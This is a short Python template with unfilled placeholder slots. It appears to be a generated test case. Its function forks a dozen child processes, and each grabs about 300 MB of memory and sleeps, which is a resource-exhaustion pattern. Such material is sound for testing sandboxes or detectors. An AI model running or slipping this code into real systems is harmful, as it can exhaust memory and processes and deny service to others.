{{guard}}
import signal
import time


def mix(*args):
    for _ in range(12):
        if os.fork() == 0:
            signal.alarm(15)
            kept = bytearray(b"x") * (300 << 20)
            time.sleep(15)
    time.sleep(15)


{{layer}}
